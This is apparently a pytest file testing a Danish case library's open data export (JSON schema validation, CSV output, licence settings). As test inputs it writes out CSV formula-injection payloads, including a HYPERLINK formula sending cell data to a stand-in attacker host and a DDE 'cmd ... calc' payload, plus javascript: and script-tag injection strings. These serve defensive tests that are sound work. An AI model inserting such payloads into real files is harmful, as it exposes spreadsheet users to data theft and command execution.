"""The open data (site/data/): cases.json valid against case.schema.json, cases.csv, the vocabularies.

The schema is checked as a schema and every record of the built file is
validated against it with `jsonschema` (draft 2020-12); the schema must also
refuse what `make check` refuses, or a test of it could never fail. The CSV
is read back with the csv module, as a spreadsheet would read it.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import shutil
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest
import yaml

from scripts.check.fields import CASE_FIELDS
from scripts.check.json_schema import case_schema, schema_file
from scripts.check.library import load_library
from scripts.engine.build import data_and_feed
from scripts.load.settings import Licence, Settings, SettingsError, load_settings
from scripts.render.open_data import CSV_COLUMNS, FORMULA_START, licence_statement, open_data_files, would_be_formula
from tests.conftest import MINIMAL, ROOT

SETTINGS = Settings(site_url="https://casebiblioteket.example/")
DATA_FILES = ("data/cases.json", "data/cases.csv", "data/case.schema.json", "data/vocabulary.json")


def _schema(library, settings=SETTINGS) -> dict:
    return case_schema(library.vocabulary, [s.id for s in library.sources], settings.site_url)


def _validator(schema: dict) -> jsonschema.Draft202012Validator:
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


def _files(library, settings=SETTINGS, pdfs=True) -> dict[str, str]:
    return data_and_feed(library, settings, pdfs)


# --- the schema, from the content model ---------------------------------------------------------------

def test_the_schema_is_a_valid_draft_2020_12_schema_with_danish_descriptions(real_library):
    schema = _schema(real_library)
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == "https://casebiblioteket.example/data/case.schema.json"
    for spec in CASE_FIELDS:  # every field of the content model, with its label and hint
        assert schema["properties"][spec.name]["title"] == spec.label
        assert schema["properties"][spec.name]["description"].startswith(spec.hint)
        assert (spec.name in schema["required"]) == spec.required
    for name, field in schema["properties"].items():
        assert field.get("description"), f"{name} has no description"
    # The vocabulary's values, each with its own description.
    tasks = schema["properties"]["core_tasks"]["items"]["oneOf"]
    assert [t["const"] for t in tasks] == [t.label for t in real_library.vocabulary.core_tasks]
    assert all(t["description"] for t in tasks)
    kommuner = schema["properties"]["municipality"]["oneOf"]
    assert {"const": "Odder", "description": "Kommune i Region Midtjylland."} in kommuner


def test_the_schema_follows_the_limits_of_the_content_model(real_library):
    properties = _schema(real_library)["properties"]
    for spec in CASE_FIELDS:
        field = properties[spec.name]
        if spec.max_items is not None:
            assert field["maxItems"] == spec.max_items, spec.name
        if spec.min_items:
            assert field["minItems"] == spec.min_items, spec.name
        if spec.max_length and field.get("type") == "string":
            assert field["maxLength"] == spec.max_length, spec.name


@pytest.fixture(scope="module")
def record_and_validator(real_library):
    cases = json.loads(_files(real_library)["data/cases.json"])
    return cases["cases"][0], _validator(_schema(real_library))


@pytest.mark.parametrize("change", [
    pytest.param(lambda r: r.update(municipality="Atlantis"), id="unknown kommune"),
    pytest.param(lambda r: r.pop("title"), id="missing title"),
    pytest.param(lambda r: r.pop("last_reviewed"), id="missing last_reviewed"),
    pytest.param(lambda r: r.update(themes=["Samskabelse", "Samskabelse"]), id="theme twice"),
    pytest.param(lambda r: r.update(themes=[]), id="no theme"),
    pytest.param(lambda r: r.update(core_tasks=["Social omsorg"]), id="misspelt kerneopgave"),
    pytest.param(lambda r: r.update(summary="x" * 301), id="summary too long"),
    pytest.param(lambda r: r.update(title="   "), id="blank title"),
    pytest.param(lambda r: r.update(last_reviewed="1. december 2026"), id="date not ISO"),
    pytest.param(lambda r: r.update(last_reviewed="2026-13-01"), id="month 13"),
    pytest.param(lambda r: r.update(source="ukendt-kilde"), id="unknown source"),
    pytest.param(lambda r: r.update(related=["Ikke En Slug"]), id="related not a slug"),
    pytest.param(lambda r: r.update(results=[{"figure": "3"}]), id="result without measure"),
    pytest.param(lambda r: r.update(body="tekst"), id="unknown field"),
    pytest.param(lambda r: r.update(reflection_questions=["a", "b"]), id="two questions"),
])
def test_the_schema_refuses_what_make_check_refuses(record_and_validator, change):
    record, validator = record_and_validator
    assert validator.is_valid(record)
    broken = copy.deepcopy(record)
    change(broken)
    assert not validator.is_valid(broken)


# --- the files, rendered ---------------------------------------------------------------------------

def test_every_record_is_valid_and_has_every_field(real_library):
    files = _files(real_library)
    cases = json.loads(files["data/cases.json"])
    validator = _validator(json.loads(files["data/case.schema.json"]))
    assert cases["count"] == len(cases["cases"]) == len(real_library.cases)
    for record in cases["cases"]:
        errors = [f"{record['slug']}: {error.message}" for error in validator.iter_errors(record)]
        assert errors == []
        assert list(record) == list(validator.schema["properties"])  # every field, in the schema's order
    assert [r["slug"] for r in cases["cases"]] == sorted(c.slug for c in real_library.cases)


def test_json_keeps_the_texts_exactly(real_library):
    cases = {r["slug"]: r for r in json.loads(_files(real_library)["data/cases.json"])["cases"]}
    for case in real_library.cases:
        record = cases[case.slug]
        assert record["title"] == case.title and record["summary"] == case.summary
        assert record["reflection_questions"] == list(case.reflection_questions)
        assert record["last_reviewed"] == case.last_reviewed.isoformat()
        assert record["source_details"]["publisher"] == real_library.source(case.source).publisher


def test_the_files_name_the_schema_the_licence_and_the_date(real_library):
    cases = json.loads(_files(real_library)["data/cases.json"])
    assert cases["schema"] == "https://casebiblioteket.example/data/case.schema.json"
    assert cases["updated"] == max(c.last_reviewed for c in real_library.cases).isoformat()
    assert cases["licence"] == {"statement": licence_statement(SETTINGS), "name": None, "url": None}
    assert "ikke valgt en licens" in cases["licence"]["statement"]
    assert SETTINGS.contact_email in cases["licence"]["statement"]
    assert "udgivere" in cases["licence"]["statement"]


def test_a_chosen_licence_is_named_in_the_data(minimal_library):
    settings = replace(SETTINGS, data_licence=Licence("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/"))
    cases = json.loads(_files(minimal_library, settings)["data/cases.json"])
    assert cases["licence"]["name"] == "CC BY 4.0"
    assert "CC BY 4.0" in cases["licence"]["statement"] and "ikke valgt" not in cases["licence"]["statement"]


def test_pdf_addresses_only_when_the_build_makes_pdfs(minimal_library):
    with_pdfs = json.loads(_files(minimal_library, pdfs=True)["data/cases.json"])["cases"]
    without = json.loads(_files(minimal_library, pdfs=False)["data/cases.json"])["cases"]
    assert all(r["pdf_url"].endswith(f"/pdf/moedekort-{r['slug']}.pdf") for r in with_pdfs)
    assert all(r["pdf_url"] is None for r in without)
    validator = _validator(_schema(minimal_library))
    assert all(validator.is_valid(r) for r in with_pdfs + without)


def _csv_rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")  # the BOM: spreadsheets then read the file as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_the_csv_has_one_row_per_case_with_danish_letters_intact(real_library):
    files = _files(real_library)
    rows = _csv_rows(files["data/cases.csv"])
    records = json.loads(files["data/cases.json"])["cases"]
    assert len(rows) == len(records) == len(real_library.cases)
    assert list(rows[0]) == list(CSV_COLUMNS)
    for row, record in zip(rows, records):
        assert row["slug"] == record["slug"]
        assert row["title"] == record["title"]  # æøå and all
        assert row["themes"] == "; ".join(record["themes"])
        assert row["url"] == record["url"]
    assert any("æ" in row["title"] or "ø" in row["title"] or "å" in row["title"] for row in rows)


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_that_would_be_a_formula_is_made_text(minimal_library, start):
    case = minimal_library.cases[0]
    hostile = replace(case, title=f'{start}HYPERLINK("https://angriber.example/?"&A1;"Klik")',
                      keywords=(f"{start}1+1", "almindeligt"), summary=f"{start}cmd|' /C calc'!A0")
    library = replace(minimal_library, cases=(hostile, *minimal_library.cases[1:]))
    files = open_data_files(library, SETTINGS, True)
    row = next(r for r in _csv_rows(files["data/cases.csv"]) if r["slug"] == case.slug)
    assert row["title"] == "'" + hostile.title
    assert row["summary"] == "'" + hostile.summary
    assert row["keywords"].startswith("'")
    for value in row.values():
        assert not value.startswith(FORMULA_START)
    record = next(r for r in json.loads(files["data/cases.json"])["cases"] if r["slug"] == case.slug)
    assert record["title"] == hostile.title  # JSON keeps the raw text


# Spreadsheets skip blanks before they read a formula, so the sign after them counts; some read a full-width
# sign as its ASCII one. A list cell starts with its first item. (Found by the hunt on the new features.)
@pytest.mark.parametrize("start", [" =", "  +", "\u00a0=", "\u2003-", "\u3000@", "\n=", "\r\n=", " \t=", "\u200b=",
                                   "\ufeff+", "＝", "＋", "－", "＠", " ＝"])
def test_a_formula_behind_blanks_or_in_full_width_is_made_text_too(minimal_library, start):
    case = minimal_library.cases[0]
    hostile = replace(case, title=f'{start}HYPERLINK("https://angriber.example/?"&A1;"Klik")',
                      keywords=(f"{start}1+1", "almindeligt"), summary=f"{start}cmd|' /C calc'!A0")
    library = replace(minimal_library, cases=(hostile, *minimal_library.cases[1:]))
    row = next(r for r in _csv_rows(open_data_files(library, SETTINGS, True)["data/cases.csv"])
               if r["slug"] == case.slug)
    assert row["title"] == "'" + hostile.title
    assert row["summary"] == "'" + hostile.summary
    assert row["keywords"] == "'" + "; ".join(hostile.keywords)
    assert not any(would_be_formula(value) for value in row.values())


def test_content_that_make_check_accepts_cannot_start_a_csv_cell_with_a_formula(tmp_path):
    """Quoted YAML keeps leading blanks in list items, result figures and the source's fields."""
    content = tmp_path / "content"
    shutil.copytree(MINIMAL, content)
    case_file = content / "cases" / "odder-test.md"
    text = case_file.read_text(encoding="utf-8")
    text = text.replace("keywords: [styring]", 'keywords: [" -1+1", "styring"]')
    text = text.replace('  - figure: "9"\n    measure: workshops', '  - figure: " =9"\n    measure: workshops')
    text = text.replace("  - Hvad ville I gøre?", '  - "\\u00a0=SUM(1)"', 1)
    case_file.write_text(text, encoding="utf-8")
    sources = content / "sources.yml"
    sources.write_text(sources.read_text(encoding="utf-8").replace("  title: En testkilde", '  title: " =En testkilde"'),
                       encoding="utf-8")
    library, problems = load_library(content)
    assert library is not None, problems
    rows = _csv_rows(open_data_files(library, SETTINGS, True)["data/cases.csv"])
    row = next(r for r in rows if r["slug"] == "odder-test")
    assert row["keywords"] == "' -1+1; styring"
    assert row["results"] == "' =9: workshops"
    assert row["reflection_questions"].startswith("'\u00a0=SUM(1)")
    assert row["source_title"].startswith("' =En testkilde")
    assert not any(would_be_formula(value) for row in rows for value in row.values())


def test_the_vocabulary_file_is_content_vocabulary_yml(real_library):
    published = json.loads(_files(real_library)["data/vocabulary.json"])
    source = yaml.safe_load((ROOT / "content" / "vocabulary.yml").read_text(encoding="utf-8"))
    assert [(m["name"], m["region"]) for m in published["municipalities"]] == \
        [(m["name"], m["region"]) for m in source["municipalities"]]
    assert [(t["label"], t["movement"], t["description"]) for t in published["core_tasks"]] == \
        [(t["label"], " ".join(t["movement"].split()), t["description"]) for t in source["core_tasks"]]
    assert [(t["label"], t["description"], t.get("keywords", [])) for t in published["themes"]] == \
        [(t["label"], t["description"], t.get("keywords", [])) for t in source["themes"]]


def test_the_schema_file_is_the_schema(real_library):
    text = schema_file(real_library.vocabulary, [s.id for s in real_library.sources], SETTINGS.site_url)
    assert json.loads(text["data/case.schema.json"]) == _schema(real_library)


def test_open_data_stays_small_and_fast_at_a_thousand_cases(real_library):
    import time

    many = tuple(replace(case, slug=f"{case.slug}-{number}", title=f"{case.title} {number}")
                 for number in range(100) for case in real_library.cases)
    library = replace(real_library, cases=many)
    started = time.perf_counter()
    files = _files(library)
    assert time.perf_counter() - started < 2
    sizes = {path: len(text.encode("utf-8")) for path, text in files.items()}
    assert sizes["data/cases.json"] < 6_000_000 and sizes["data/cases.csv"] < 4_000_000
    assert sizes["feed.xml"] < 100_000  # capped: the 50 most recent
    assert sizes["data/case.schema.json"] < 100_000  # does not grow with the cases


# --- the settings -------------------------------------------------------------------------------------

def _settings_file(tmp_path: Path, licence: str) -> Path:
    path = tmp_path / "casebiblioteket.yml"
    path.write_text("site_url: https://casebiblioteket.example/\ncontact_email: a@b.dk\n" + licence, encoding="utf-8")
    return path


def test_data_licence_is_read_from_the_settings(tmp_path):
    path = _settings_file(tmp_path, "data_licence:\n  name: CC BY 4.0\n  url: https://creativecommons.org/licenses/by/4.0/\n")
    assert load_settings(path).data_licence == Licence("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/")
    assert load_settings(_settings_file(tmp_path, "data_licence: null\n")).data_licence is None
    assert load_settings(_settings_file(tmp_path, "")).data_licence is None


@pytest.mark.parametrize("licence", ["data_licence: CC BY\n", "data_licence:\n  name: CC BY\n",
                                     "data_licence:\n  name: CC BY\n  url: javascript:alert(1)\n",
                                     'data_licence:\n  name: "<b>CC</b>"\n  url: https://x.dk/\n',
                                     'data_licence:\n  name: CC\n  url: "https://x.dk/\\"><script>"\n'])
def test_a_data_licence_that_is_not_a_name_and_an_address_is_refused(tmp_path, licence):
    with pytest.raises(SettingsError, match="data_licence"):
        load_settings(_settings_file(tmp_path, licence))


def test_the_project_settings_choose_no_licence_yet():
    assert load_settings().data_licence is None  # the site owner chooses one; none is invented


# --- the built site ---------------------------------------------------------------------------------

def _site_file(site: Path, address: str, site_url: str) -> Path:
    assert address.startswith(site_url), address
    path = address.removeprefix(site_url)
    return site / path / "index.html" if path.endswith("/") else site / path


def test_the_built_site_publishes_the_data_and_every_address_in_it_exists(project_site):
    for path in DATA_FILES:
        assert (project_site / path).is_file(), path
    cases = json.loads((project_site / "data/cases.json").read_text(encoding="utf-8"))
    schema = json.loads((project_site / "data/case.schema.json").read_text(encoding="utf-8"))
    validator = _validator(schema)
    site_url = cases["site"]
    for record in cases["cases"]:
        assert validator.is_valid(record), list(validator.iter_errors(record))
        for key in ("url", "short_url", "pdf_url"):
            assert _site_file(project_site, record[key], site_url).is_file(), record[key]
        assert _site_file(project_site, record["source_details"]["page_url"], site_url).is_file()
    for key in ("schema", "vocabulary", "csv"):
        assert _site_file(project_site, cases[key], site_url).is_file()
    vocabulary = json.loads((project_site / "data/vocabulary.json").read_text(encoding="utf-8"))
    used = {r["municipality"] for r in cases["cases"]}
    for item in vocabulary["core_tasks"] + vocabulary["themes"] + [
            m for m in vocabulary["municipalities"] if m["name"] in used]:
        assert _site_file(project_site, item["url"], site_url).is_file(), item["url"]
    rows = _csv_rows((project_site / "data/cases.csv").read_bytes().decode("utf-8"))
    assert len(rows) == len(cases["cases"])


def test_the_home_page_links_the_data_and_says_what_applies(project_site):
    home = (project_site / "index.html").read_text(encoding="utf-8")
    assert "Åbne data" in home
    for path in DATA_FILES:
        assert f'href="{path}"' in home, path
    assert "Der er endnu ikke valgt en licens" in home
    assert "rettighederne til kilderne tilhører deres udgivere" in home


def test_contributing_describes_the_data_the_csv_rules_and_the_licence():
    text = (ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8")
    section = text.split("## Åbne data og nyhedsfeed", 1)[1].split("\n## ", 1)[0]
    for needle in ("cases.json", "cases.csv", "case.schema.json", "vocabulary.json", "feed.xml", "data_licence",
                   "apostrof", "BOM", "; ", "udgivere"):
        assert needle in section, needle


def test_the_zensical_build_publishes_the_same_data(project_site, zensical_project_site):
    for path in DATA_FILES + ("feed.xml",):
        assert (zensical_project_site / path).read_bytes() == (project_site / path).read_bytes(), path


def test_the_offline_copy_carries_the_data_and_the_feed(offline_copy):
    for path in DATA_FILES + ("feed.xml",):
        assert (offline_copy / path).is_file(), path
    home = (offline_copy / "index.html").read_text(encoding="utf-8")
    assert 'href="data/cases.json"' in home and 'href="feed.xml"' in home
    # No feed in the head: Material's script would read sitemap.xml beside it, which a page on the disk may not.
    assert 'type="application/atom+xml"' not in home
